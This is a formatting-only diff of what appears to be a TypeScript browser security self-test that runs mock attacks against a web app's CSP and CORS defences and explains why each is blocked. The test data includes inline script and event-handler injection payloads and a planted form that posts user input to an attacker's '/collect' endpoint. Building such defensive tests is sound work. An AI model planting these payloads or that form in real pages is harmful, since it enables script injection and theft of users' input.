@@ -39,7 +39,9 @@ export const attacks: readonly Attack[] = [
     title: 'Look-alike host',
     aim: 'The same, from hosts whose names read like a team’s.',
     run: ({ attacker, catalog, framePatterns }) =>
-      inTurn(lookAlikes(attacker, catalog, framePatterns), async (url) => judge(new URL(url).host, await tryFrame(url))),
+      inTurn(lookAlikes(attacker, catalog, framePatterns), async (url) =>
+        judge(new URL(url).host, await tryFrame(url)),
+      ),
   },
   {
     id: 'inline-injection',
@@ -47,7 +49,10 @@ export const attacks: readonly Attack[] = [
     aim: 'Slip a script, or an attribute that holds one, into the page’s HTML.',
     run: () =>
       inTurn(
-        [`<script>parent.postMessage({ ran: 'a script' }, '*')</script>`, `<details open ontoggle="parent.postMessage({ ran: 'a handler' }, '*')">`],
+        [
+          `<script>parent.postMessage({ ran: 'a script' }, '*')</script>`,
+          `<details open ontoggle="parent.postMessage({ ran: 'a handler' }, '*')">`,
+        ],
         async (markup) => judge(markup.replace(/parent.*'\*'\)/, '…'), await tryMarkup('inline', markup)),
       ),
   },
@@ -81,8 +86,11 @@ export const attacks: readonly Attack[] = [
       })
       const tried = await visit(attacker, 'read', (data) => readResult(data))
       const results = await inTurn(tried, async ({ method, path, got }) => {
-        const isIt = (told: Refusal): boolean => told.path === path && (told.method === method || told.method === 'OPTIONS')
-        const refusal = refusals.find(isIt) ?? (await first(watch, (told) => (told.kind === 'refused' && isIt(told) ? told : undefined)))
+        const isIt = (told: Refusal): boolean =>
+          told.path === path && (told.method === method || told.method === 'OPTIONS')
+        const refusal =
+          refusals.find(isIt) ??
+          (await first(watch, (told) => (told.kind === 'refused' && isIt(told) ? told : undefined)))
         const what = `${method} ${path} from ${attacker}`
         return got ? wentThrough(what) : refusal ? refused(what, refusal) : silent(what)
       })
@@ -110,7 +118,10 @@ export const attacks: readonly Attack[] = [
     title: 'Form to the attacker',
     aim: 'A form slipped into the page posts what you type to the attacker.',
     run: async ({ attacker }) => [
-      judge(`<form action="${attacker}/collect">`, await tryIt(attacker, () => sendForm(`${attacker}/collect?by=form`))),
+      judge(
+        `<form action="${attacker}/collect">`,
+        await tryIt(attacker, () => sendForm(`${attacker}/collect?by=form`)),
+      ),
     ],
   },
   {
@@ -121,7 +132,9 @@ export const attacks: readonly Attack[] = [
       const results = [shell, catalog].map(async (origin) => {
         const what = `${origin} in a frame of ${attacker}`
         const told = await first(watch, (news) =>
-          news.kind === 'blocked' && news.directive === 'frame-ancestors' && originOf(news.page) === origin ? news : undefined,
+          news.kind === 'blocked' && news.directive === 'frame-ancestors' && originOf(news.page) === origin
+            ? news
+            : undefined,
         )
         return told ? blocked(what, 'frame-ancestors', WHY['frame-ancestors'] ?? '') : silent(what)
       })
@@ -134,22 +147,30 @@ export const attacks: readonly Attack[] = [
 type Refusal = Extract<Activity, { kind: 'refused' }>
 
 const WHY: Readonly<Record<string, string>> = {
-  'frame-src': 'The shell frames hosts below the teams’ domain, compared label by label. Containing the name is not being below it.',
-  'script-src-elem': 'The tag lacks this response’s nonce, and injected markup cannot guess it. Where a script comes from does not matter.',
+  'frame-src':
+    'The shell frames hosts below the teams’ domain, compared label by label. Containing the name is not being below it.',
+  'script-src-elem':
+    'The tag lacks this response’s nonce, and injected markup cannot guess it. Where a script comes from does not matter.',
   'script-src-attr': 'An attribute cannot carry a nonce, so no handler written into markup runs.',
   'connect-src': 'The page may call its own server and the API. There is nowhere else to send anything to.',
   'img-src': 'Even the address of a picture can carry secrets, so pictures come from this server only.',
   'form-action': 'No form on this page may be sent anywhere: the shell has none.',
   'frame-ancestors': 'The framed page itself says who may frame it, and its browser reported this try.',
-  'origin-refused': 'The request arrived, cookie and all, but the answer carries no CORS header, so the browser keeps it from the page.',
+  'origin-refused':
+    'The request arrived, cookie and all, but the answer carries no CORS header, so the browser keeps it from the page.',
   'preflight-origin-refused': 'The browser asked first. The API answered 403, so the request itself was never sent.',
-  'cross-origin-refused': 'CORS cannot stop this one: it is sent without asking. The guard saw that it came from another site.',
+  'cross-origin-refused':
+    'CORS cannot stop this one: it is sent without asking. The guard saw that it came from another site.',
 }
 
 function judge(what: string, signal: Signal): Try {
   if (signal === 'through') return wentThrough(what)
   if (signal === 'silent') return silent(what)
-  return blocked(what, brokenRule(signal), WHY[signal.effectiveDirective] ?? `The browser named ${signal.effectiveDirective}.`)
+  return blocked(
+    what,
+    brokenRule(signal),
+    WHY[signal.effectiveDirective] ?? `The browser named ${signal.effectiveDirective}.`,
+  )
 }
 
 function refused(what: string, { reason, message }: Refusal): Try {
@@ -209,7 +230,11 @@ export function openWindow(attacker: string, page: string): void {
 }
 
 /** What a page of the attacker says of its tries, until it says that it is done. */
-async function visit<Found>(attacker: string, page: string, read: (data: unknown) => Found | undefined): Promise<readonly Found[]> {
+async function visit<Found>(
+  attacker: string,
+  page: string,
+  read: (data: unknown) => Found | undefined,
+): Promise<readonly Found[]> {
   const found: Found[] = []
   const done = first(messagesFrom(attacker), (data) => {
     const result = read(data)
@@ -242,7 +267,10 @@ function originOf(url: string): string | undefined {
 }
 
 /** One after the other, so that a violation can only belong to the try that is under way. */
-async function inTurn<Item, Result>(items: readonly Item[], act: (item: Item) => Promise<Result>): Promise<readonly Result[]> {
+async function inTurn<Item, Result>(
+  items: readonly Item[],
+  act: (item: Item) => Promise<Result>,
+): Promise<readonly Result[]> {
   const results: Result[] = []
   for (const item of items) results.push(await act(item))
   return results
